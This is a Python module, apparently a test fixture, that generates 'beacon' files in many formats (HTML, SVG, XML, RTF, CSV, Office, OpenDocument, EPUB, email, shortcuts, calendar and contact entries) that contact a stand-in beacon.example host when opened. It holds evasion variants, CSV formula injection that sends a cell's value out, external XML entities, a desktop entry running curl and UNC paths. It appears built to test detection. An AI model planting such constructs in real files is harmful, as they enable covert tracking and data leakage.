"""Beacons: exhibits of every format that would call a host of their own when a program opens them.

Each host is the name of its beacon under `.beacon.example`, so that a test can ask for it. Nothing
here is copied from anybody's trap; the ways are those the formats' specifications allow.
"""

from collections.abc import Iterator
from typing import NamedTuple

from compound_writer import compound
from office_writer import SHEETS, book, cells, deck, document, open_document, relations, slide, workbook

HTML, EML, XML, CSV, TEXT = "text/html", "message/rfc822", "application/xml", "text/csv", "text/plain"
OPEN_XML = "application/vnd.openxmlformats-officedocument."
DOCX, XLSX, PPTX = (f"{OPEN_XML}{kind}" for kind in (
    "wordprocessingml.document", "spreadsheetml.sheet", "presentationml.presentation"))  # fmt: skip
ODT = "application/vnd.oasis.opendocument.text"
HEAD = b"From: one@example.org\r\nTo: two@example.org\r\nSubject: a mail\r\nMIME-Version: 1.0\r\n"


class Beacon(NamedTuple):
    """One exhibit and the host it would call."""

    name: str
    media_type: str
    content: bytes

    @property
    def host(self) -> str:
        return f"{self.name}.beacon.example"


def address(name: str) -> str:
    return f"http://{name}.beacon.example/x"


# In the page `@` stands for the address.
PAGES = {
    "html-img": '<img src="@">', "html-img-unquoted": "<img src=@>", "html-img-single": "<img src='@'>",
    "html-srcset": '<img srcset="a.png 1x, @ 2x">', "html-picture": '<picture><source srcset="@"></picture>',
    "html-script": '<script src="@"></script>', "html-css": '<link rel="stylesheet" href="@">',
    "html-icon": '<link rel="icon" href="@">', "html-preload": '<link rel="preload" href="@">',
    "html-prefetch": '<link rel="dns-prefetch" href="@">', "html-iframe": '<iframe src="@"></iframe>',
    "html-frame": '<frameset><frame src="@"></frameset>', "html-object": '<object data="@"></object>',
    "html-embed": '<embed src="@">', "html-applet": '<applet code="A" codebase="@"></applet>',
    "html-video": '<video src="@"></video>', "html-poster": '<video poster="@"></video>',
    "html-audio": '<audio src="@"></audio>', "html-track": '<video><track src="@"></video>',
    "html-source": '<audio><source src="@"></audio>', "html-body": '<body background="@">words</body>',
    "html-table": '<table background="@"><tr><td>x</table>', "html-cell": '<table><tr><td background="@">x</table>',
    "html-input": '<input type="image" src="@">', "html-form": '<form action="@"><input></form>',
    "html-button": '<form><button formaction="@">go</button></form>', "html-base": '<base href="@">',
    "html-refresh": '<meta http-equiv="refresh" content="0; url=@">',
    "html-refresh-quoted": "<meta http-equiv=Refresh content=\"5;URL='@'\">",
    "html-ping": '<a href="#" ping="@">words</a>', "html-style": "<p style=\"background:url('@')\">words</p>",
    "html-style-bare": '<p style="background-image: url(@)">words</p>',
    "html-sheet": "<style>p { background: url(@) }</style>", "html-import": "<style>@import '@';</style>",
    "html-import-url": "<style>@import url(@);</style>", "html-font": '<style>@font-face { src: url("@") }</style>',
    "html-image-set": "<style>p { background: image-set('@' 1x) }</style>",
    "html-escaped": "<style>p { background: \\75rl(@) }</style>", "html-svg": '<svg><image href="@"/></svg>',
    "html-svg-xlink": '<svg><image xlink:href="@"/></svg>', "html-use": '<svg><use href="@#a"/></svg>',
    "html-manifest": '<html manifest="@">words</html>', "html-lowsrc": '<img lowsrc="@">',
    "html-dynsrc": '<img dynsrc="@">', "html-longdesc": '<img longdesc="@">',
    "html-srcdoc": '<iframe srcdoc="&lt;img src=@&gt;"></iframe>',
    "html-entity": '<img src="http&#58;//html-entity.beacon.example/x">', "html-capitals": '<IMG SRC="@">',
    "html-profile": '<head profile="@"></head>', "html-bgsound": '<bgsound src="@">',
    "html-usemap": '<img usemap="@#m">', "html-classid": '<object classid="@"></object>',
}  # fmt: skip
DRAWINGS = {
    "svg-image": '<image href="@"/>', "svg-xlink": '<image xlink:href="@"/>', "svg-use": '<use xlink:href="@#x"/>',
    "svg-style": "<style>@import url(@);</style>", "svg-fill": '<rect fill="url(@#a)"/>',
    "svg-script": '<script xlink:href="@"/>', "svg-feimage": '<feImage xlink:href="@"/>',
    "svg-animate": '<animate attributeName="xlink:href" to="@"/>', "svg-pattern": '<pattern xlink:href="@"/>',
    "svg-foreign": '<foreignObject><iframe src="@"/></foreignObject>', "svg-font": '<font-face-uri xlink:href="@"/>',
    "svg-mask": '<rect mask="url(@#m)"/>', "svg-attribute": '<rect style="background:url(@)"/>',
}  # fmt: skip
XMLS = {
    "xml-dtd": '<!DOCTYPE a SYSTEM "@"><a>words</a>', "xml-public": '<!DOCTYPE a PUBLIC "-//x" "@"><a>words</a>',
    "xml-include": '<a xmlns:xi="http://www.w3.org/2001/XInclude">words<xi:include href="@"/></a>',
    "xml-sheet": '<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="@"?><a>words</a>',
    "xml-schema": '<a xsi:noNamespaceSchemaLocation="@" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance">words</a>',
    "xml-schema-pair": '<a xsi:schemaLocation="urn:x @" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance">w</a>',
    "xml-xsl-import": '<xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:import href="@"/>w</xsl:stylesheet>',
    "xml-rss-image": "<rss><channel><title>t</title><image><url>@</url></image></channel></rss>",
    "xml-kml": "<kml><Style><IconStyle><Icon><href>@</href></Icon></IconStyle></Style>words</kml>",
    "xml-webloc": "<plist><dict><key>URL</key><string>@</string></dict></plist>",
    "xml-enclosure": '<rss><channel><item><title>t</title><enclosure url="@"/></item></channel></rss>',
    "xml-description": "<rss><item><description>&lt;img src='@'&gt;</description></item></rss>",
    "xml-fodt-image": '<office:document xmlns:office="o" xmlns:xlink="x"><image xlink:href="@"/>words</office:document>',
    "xml-xspf": "<playlist><trackList><track><location>@</location></track></trackList></playlist>",
}  # fmt: skip
RICH = {
    "rtf-picture": r'{\field{\*\fldinst INCLUDEPICTURE "@" \\d}{\fldrslt x}}',
    "rtf-text": r'{\field{\*\fldinst INCLUDETEXT "@"}{\fldrslt x}}', "rtf-template": r"{\*\template @}words",
    "rtf-link": r'{\field{\*\fldinst LINK Excel.Sheet "@" a}{\fldrslt x}}', "rtf-base": r"{\info{\hlinkbase @}}words",
    "rtf-import": r'{\field{\*\fldinst IMPORT "@"}{\fldrslt x}}',
    "rtf-split": r'{\field{\*\fldinst {INCLUDE}{PICTURE "http://rtf-split.bea}{con.example/x"}}{\fldrslt x}}',
}  # fmt: skip
TEXTS = {
    "md-image": "# Words\n\n![a picture](@)\n", "md-reference": "![a][b]\n\n[b]: @\n", "md-html": "words <img src='@'>\n",
    "m3u": "#EXTM3U\n#EXTINF:1,x\n@\n", "m3u-bare": "@\n", "m3u-key": '#EXTM3U\n#EXT-X-KEY:METHOD=AES-128,URI="@"\n',
    "pls": "[playlist]\nFile1=@\n", "url": "[InternetShortcut]\nURL=@\n", "url-icon": "[InternetShortcut]\nIconFile=@\n",
    "desktop-link": "[Desktop Entry]\nType=Link\nURL=@\n", "desktop-exec": "[Desktop Entry]\nExec=curl @\n",
    "desktop-icon": "[Desktop Entry]\nIcon=@\n", "folder": "[.ShellClassInfo]\nIconResource=@\n",
    "autorun": "[AutoRun]\nopen=@\n", "shell-command": "[Shell]\nIconFile=@\n",
}  # fmt: skip
CALENDAR = {
    "ics-attach": "ATTACH:@", "ics-image": "IMAGE;VALUE=URI:@", "ics-altrep": 'DESCRIPTION;ALTREP="@":words',
    "ics-dir": 'ATTENDEE;DIR="@":mailto:a@example.org', "ics-conference": "CONFERENCE;VALUE=URI:@",
    "ics-html": "X-ALT-DESC;FMTTYPE=text/html:<img src='@'>", "ics-folded": "ATTACH:http://ics-fol\r\n ded.beacon.example/x",
}  # fmt: skip
PEOPLE = {
    "vcf-photo": "PHOTO;VALUE=URI:@", "vcf-logo": "LOGO:@", "vcf-sound": "SOUND;VALUE=URI:@", "vcf-key": "KEY:@",
    "vcf-source": "SOURCE:@", "vcf-busy": "FBURL:@", "vcf-calendar": "CALURI:@",
}  # fmt: skip
FORMULAS = {
    "csv-webservice": 'a,b\n1,"=WEBSERVICE(""@"")"\n', "csv-image": 'a,b\n1,"=IMAGE(""@"")"\n',
    "csv-hyperlink": 'a,b\n1,"=HYPERLINK(""@?x=""&A1,""click"")"\n', "csv-plus": 'a,b\n1,"+WEBSERVICE(""@"")"\n',
    "csv-minus": 'a,b\n1,"-WEBSERVICE(""@"")"\n', "csv-at": 'a,b\n1,"@WEBSERVICE(""@"")"\n',
    "csv-header": '"=WEBSERVICE(""@"")",b\n1,2\n',
}  # fmt: skip
BODY = "<w:p><w:r><w:t>words</w:t></w:r></w:p>"
EXTERNAL = (
    "image",
    "attachedTemplate",
    "oleObject",
    "frame",
    "subDocument",
    "video",
    "audio",
    "externalLinkPath",
)


def _filled(table: dict[str, str], media_type: str, before: str = "", after: str = "") -> Iterator[Beacon]:
    """Yield a beacon for each row, its address put where `@` stands alone."""
    for name, text in table.items():
        whole = (
            text.replace("@import", "\0")
            .replace("@font", "\1")
            .replace("a@example", "\2")
            .replace('"@WEB', "\3")
        )
        whole = whole.replace("@", address(name)).replace("\0", "@import").replace("\1", "@font")
        whole = whole.replace("\2", "a@example").replace("\3", '"@WEB')
        yield Beacon(name, media_type, f"{before}{whole}{after}".encode())


def _office() -> Iterator[Beacon]:
    for kind in EXTERNAL:
        name = f"docx-{kind.lower()}"
        yield Beacon(name, DOCX, document(BODY, (kind, address(name), "External")))
    rels = {f"{part}-rels": part for part in ("settings", "header1", "footnotes", "webSettings", "comments")}
    for key, part in rels.items():
        name = f"docx-{key.lower()}"
        parts = {f"word/_rels/{part}.xml.rels": relations(("image", address(name), "External"))}
        yield Beacon(name, DOCX, document(BODY, parts=parts))
    for name, xml in {
        "docx-field": f'<w:p><w:fldSimple w:instr="INCLUDEPICTURE &quot;{address("docx-field")}&quot;"/></w:p>',
        "docx-instruction": "<w:p><w:r><w:instrText>INCLUDETEXT &quot;http://docx-instr</w:instrText></w:r><w:r>"
        "<w:instrText>uction.beacon.example/x&quot;</w:instrText></w:r></w:p>",
        "docx-vml": f'<w:p><v:imagedata xmlns:v="urn:v" src="{address("docx-vml")}"/></w:p>',
        "docx-vml-href": f'<w:p><v:imagedata xmlns:v="urn:v" xmlns:o="urn:o" o:href="{address("docx-vml-href")}"/></w:p>',
        "docx-unc": "<w:p><w:fldSimple w:instr='INCLUDEPICTURE \"\\\\\\\\docx-unc.beacon.example\\\\s\\\\x.png\"'/></w:p>",
    }.items():
        yield Beacon(name, DOCX, document(BODY + xml))
    chunk = {"word/chunk.html": f'<html><body>words<img src="{address("docx-chunk")}"></body></html>'}
    yield Beacon("docx-chunk", DOCX, document(BODY, ("aFChunk", "chunk.html"), parts=chunk))
    for name, formula in {
        "xlsx-webservice": "WEBSERVICE(\"@\")", "xlsx-picture": "_xlfn.IMAGE(\"@\")", "xlsx-rtd": "RTD(\"@\",,\"x\")",
        "xlsx-hyperlink": "HYPERLINK(\"@\",\"x\")", "xlsx-filterxml": "FILTERXML(WEBSERVICE(\"@\"),\"//a\")",
    }.items():  # fmt: skip
        cell = f'<sheetData><row r="1"><c r="A1"><f>{formula.replace("@", address(name))}</f><v>1</v></c></row></sheetData>'
        yield Beacon(name, XLSX, workbook(("S", cell)))
    for kind in ("image", "oleObject", "externalLinkPath", "queryTable"):
        name = f"xlsx-{kind.lower()}"
        parts = {"xl/worksheets/_rels/sheet1.xml.rels": relations((kind, address(name), "External"))}
        yield Beacon(name, XLSX, workbook(("S", cells(("words",))), parts=parts))
    web = f'<connections xmlns="{SHEETS}"><connection><webPr url="{address("xlsx-connection")}"/></connection></connections>'
    yield Beacon(
        "xlsx-connection", XLSX, workbook(("S", cells(("words",))), parts={"xl/connections.xml": web})
    )
    for kind in ("image", "video", "media", "audio", "oleObject"):
        name = f"pptx-{kind.lower()}"
        parts = {"ppt/slides/_rels/slide1.xml.rels": relations((kind, address(name), "External"))}
        yield Beacon(name, PPTX, deck(slide("words"), parts=parts))
    master = {"ppt/slideMasters/_rels/m.xml.rels": relations(("image", address("pptx-master"), "External"))}
    yield Beacon("pptx-master", PPTX, deck(slide("words"), parts=master))


def _open_documents() -> Iterator[Beacon]:
    for name, xml in {
        "odt-image": '<draw:frame><draw:image xlink:href="@"/></draw:frame>',
        "odt-object": '<draw:frame><draw:object xlink:href="@"/></draw:frame>',
        "odt-ole": '<draw:frame><draw:object-ole xlink:href="@"/></draw:frame>',
        "odt-plugin": '<draw:frame><draw:plugin xlink:href="@"/></draw:frame>',
        "odt-applet": '<draw:frame><draw:applet xlink:href="@"/></draw:frame>',
        "odt-frame": '<draw:frame><draw:floating-frame xlink:href="@"/></draw:frame>',
        "odt-section": '<text:section><text:section-source xlink:href="@"/></text:section>',
        "odt-source": '<table:table><table:table-source xlink:href="@"/></table:table>',
        "odt-fill": '<draw:fill-image xlink:href="@"/>',
        "odt-style": '<style:background-image xlink:href="@"/>',
    }.items():
        yield Beacon(name, ODT, open_document(f"<text:p>words</text:p>{xml.replace('@', address(name))}"))
    formula = f'<table:table table:name="S"><table:table-row><table:table-cell table:formula="of:=WEBSERVICE(&quot;{address("ods-formula")}&quot;)"/></table:table-row></table:table>'
    sheet = open_document(formula, "spreadsheet")
    yield Beacon("ods-formula", "application/vnd.oasis.opendocument.spreadsheet", sheet)
    styles = f'<office:document-styles xmlns:office="o" xmlns:xlink="x"><image xlink:href="{address("odt-header")}"/></office:document-styles>'
    yield Beacon("odt-header", ODT, open_document("<text:p>words</text:p>", parts={"styles.xml": styles}))
    for name, text in {
        "epub-image": '<img src="@"/>', "epub-script": '<script src="@"></script>', "epub-css": '<link rel="stylesheet" href="@"/>',
        "epub-video": '<video src="@"></video>',
    }.items():  # fmt: skip
        chapter = f"<html><body><p>words</p>{text.replace('@', address(name))}</body></html>"
        yield Beacon(name, "application/epub+zip", book(chapter))


def _mails() -> Iterator[Beacon]:
    for name, text in {
        "eml-pixel": '<img src="@" width="1" height="1">', "eml-css": "<style>a{background:url(@)}</style>",
        "eml-table": '<table background="@"><tr><td>x</table>', "eml-link": '<link rel="stylesheet" href="@">',
        "eml-iframe": '<iframe src="@"></iframe>', "eml-form": '<form action="@"></form>',
    }.items():  # fmt: skip
        html = f"<p>words</p>{text.replace('@', address(name))}"
        yield Beacon(name, EML, HEAD + b"Content-Type: text/html; charset=utf-8\r\n\r\n" + html.encode())
    other = (
        'Content-Type: multipart/alternative; boundary="b"\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\nwords\r\n'
        f'--b\r\nContent-Type: text/html\r\n\r\nwords<img src="{address("eml-alternative")}">\r\n--b--\r\n'
    )
    yield Beacon("eml-alternative", EML, HEAD + other.encode())
    packed = b'words<img src=3D"http://eml-quoted.bea=\r\ncon.example/x">'
    yield Beacon(
        "eml-quoted",
        EML,
        HEAD + b"Content-Type: text/html\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n" + packed,
    )
    body = 'Content-Type: message/external-body; access-type=URL; URL="http://eml-external.beacon.example/x"\r\n\r\nContent-Type: image/png\r\n\r\n'
    yield Beacon("eml-external", EML, HEAD + body.encode())
    html = f'<html>words<img src="{address("msg-html")}"></html>'.encode()
    mail = {
        "__properties_version1.0": bytes(32),
        "__substg1.0_0037001F": "a".encode("utf-16-le"),
        "__substg1.0_10130102": html,
    }
    yield Beacon("msg-html", "application/vnd.ms-outlook", compound(mail))


def all_beacons() -> list[Beacon]:
    """Return every beacon, each with a host of its own."""
    svg = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><text>words</text>'
    event = "BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nSUMMARY:words\r\n"
    person = "BEGIN:VCARD\r\nVERSION:3.0\r\nFN:A Person\r\n"
    return [
        *_filled(PAGES, HTML, "<p>words</p>"),
        *_filled(DRAWINGS, XML, svg, "</svg>"),
        *_filled(XMLS, XML),
        *_filled(RICH, "application/rtf", r"{\rtf1\ansi words ", "}"),
        *_filled(TEXTS, TEXT),
        *_filled(CALENDAR, "text/calendar", event, "\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n"),
        *_filled(PEOPLE, "text/vcard", person, "\r\nEND:VCARD\r\n"),
        *_filled(FORMULAS, CSV),
        *_office(),
        *_open_documents(),
        *_mails(),
    ]
